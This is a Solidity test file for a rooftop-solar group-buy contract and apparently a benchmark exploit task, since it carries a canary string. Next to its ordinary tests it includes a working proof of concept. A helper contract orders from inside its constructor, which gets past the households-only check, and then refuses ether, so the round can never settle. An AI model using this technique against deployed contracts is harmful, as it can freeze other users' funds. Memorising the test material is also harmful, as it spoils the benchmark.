// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./RooftopGroupBuy.sol";

// assay-canary-358abed8-7fc2-48b2-b562-01f9bebfa47c

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// Orders while it is being created, and accepts no ether.
contract Straw {
    constructor(RooftopGroupBuy round) payable {
        round.order{value: msg.value}(1);
    }
}

contract Attacker {
    RooftopGroupBuy internal round;

    constructor(RooftopGroupBuy round_) {
        round = round_;
    }

    function run() external {
        new Straw{value: round.ceiling()}(round);
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    RooftopGroupBuy private round;
    Attacker private spoiler;
    address private constant INSTALLER = address(0x1257A1);
    address private constant ELSA = address(0xE15A);
    address private constant FINN = address(0xF1AA);
    address private constant GRETE = address(0x64E7E);

    function setUp() public {
        vm.warp(1_700_000_000);
        round = new RooftopGroupBuy(INSTALLER, 1 ether, 21 days);
        spoiler = new Attacker(round);
        vm.deal(address(spoiler), 1 ether);
        vm.deal(ELSA, 10 ether);
        vm.deal(FINN, 10 ether);
        vm.deal(GRETE, 10 ether);
        vm.prank(ELSA);
        round.order{value: 10 ether}(10);
    }

    function test_Regular() public {
        vm.prank(FINN);
        round.order{value: 8 ether}(8);
        vm.prank(GRETE);
        uint256 index = round.order{value: 6 ether}(6);
        vm.prank(GRETE);
        round.lower(index, 4);
        require(round.panelsOrdered() == 22 && round.parked(GRETE) == 2 ether, "lowered");
        vm.prank(FINN);
        (bool ok, ) = address(round).call(abi.encodeCall(RooftopGroupBuy.lower, (index, 0)));
        require(!ok, "not his");
        (ok, ) = address(round).call(abi.encodeCall(RooftopGroupBuy.settle, (1)));
        require(!ok, "not fixed");

        vm.warp(block.timestamp + 21 days);
        (ok, ) = address(round).call(abi.encodeCall(RooftopGroupBuy.fixPrice, (0)));
        require(!ok, "only the installer in the term");
        vm.prank(INSTALLER);
        round.fixPrice(0.75 ether);
        require(round.settle(2) == 2 && round.settle(9) == 1, "in parts");
        require(ELSA.balance == 2.5 ether && FINN.balance == 4 ether && GRETE.balance == 5 ether, "surplus");
        vm.prank(GRETE);
        round.fetch();
        require(GRETE.balance == 7 ether, "fetched");
        round.invoice();
        require(INSTALLER.balance == 16.5 ether && address(round).balance == 0, "installer paid");
    }

    // finn orders in time, the installer fixes the price, and finn settles the round
    function honestRound() public {
        vm.prank(FINN);
        round.order{value: 10 ether}(10);
        vm.warp(round.closesAt());
        vm.prank(INSTALLER);
        round.fixPrice(0.8 ether);
        vm.prank(FINN);
        round.settle(50);
        require(FINN.balance == 2 ether && ELSA.balance == 2 ether, "surplus");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Orders of households, of some panels, at the ceiling, while the round is open.
    function test_RefusesOrders() public {
        vm.deal(address(spoiler), 2 ether);
        refuses(address(spoiler), RooftopGroupBuy.HouseholdsOnly.selector);
        round.order{value: 1 ether}(1);
        refuses(FINN, RooftopGroupBuy.BadCount.selector);
        round.order(0);
        vm.deal(FINN, 50 ether);
        refuses(FINN, RooftopGroupBuy.BadCount.selector);
        round.order{value: 41 ether}(41);
        refuses(FINN, RooftopGroupBuy.BadPrice.selector);
        round.order{value: 1 ether}(2);
        refuses(ELSA, RooftopGroupBuy.BadCount.selector);
        round.lower(0, 10);
        vm.warp(block.timestamp + 21 days);
        refuses(FINN, RooftopGroupBuy.OrdersClosed.selector);
        round.order{value: 1 ether}(1);
        refuses(ELSA, RooftopGroupBuy.OrdersClosed.selector);
        round.lower(0, 5);
        try new RooftopGroupBuy(INSTALLER, 0, 1 days) {
            revert("a round without a ceiling");
        } catch (bytes memory why) {
            require(bytes4(why) == RooftopGroupBuy.BadPrice.selector, "ceiling");
        }
    }

    /// One price, in time, by the installer, or none at all.
    function test_RefusesPrices() public {
        refuses(INSTALLER, RooftopGroupBuy.OrdersOpen.selector);
        round.fixPrice(0);
        vm.warp(block.timestamp + 21 days);
        refuses(INSTALLER, RooftopGroupBuy.BadPrice.selector);
        round.fixPrice(1 ether + 1);
        vm.warp(block.timestamp + 10 days);
        refuses(ELSA, RooftopGroupBuy.NotInstaller.selector);
        round.fixPrice(1);
        vm.prank(ELSA);
        round.fixPrice(0);
        refuses(INSTALLER, RooftopGroupBuy.BadPrice.selector);
        round.fixPrice(1 ether);
    }

    /// Ether that is not there, or not taken.
    function test_RefusesPayments() public {
        refuses(FINN, RooftopGroupBuy.NothingParked.selector);
        round.fetch();
        vm.prank(ELSA);
        round.lower(0, 5);
        vm.deal(address(round), 0);
        refuses(ELSA, abi.encodeWithSelector(RooftopGroupBuy.Undelivered.selector, ELSA, 5 ether));
        round.fetch();
        vm.warp(block.timestamp + 21 days);
        vm.prank(INSTALLER);
        round.fixPrice(1 ether);
        round.settle(1);
        vm.expectRevert(abi.encodeWithSelector(RooftopGroupBuy.Undelivered.selector, INSTALLER, 5 ether));
        round.invoice();
    }

    function exploit() public {
        spoiler.run();
    }

    function test_Exploit() public {
        exploit();
        (bool ok, ) = address(this).call(abi.encodeCall(this.honestRound, ()));
        require(!ok, "still settles");
    }

    function target() public view returns (address) {
        return address(round);
    }

    function attacker() public view returns (address) {
        return address(spoiler);
    }
}
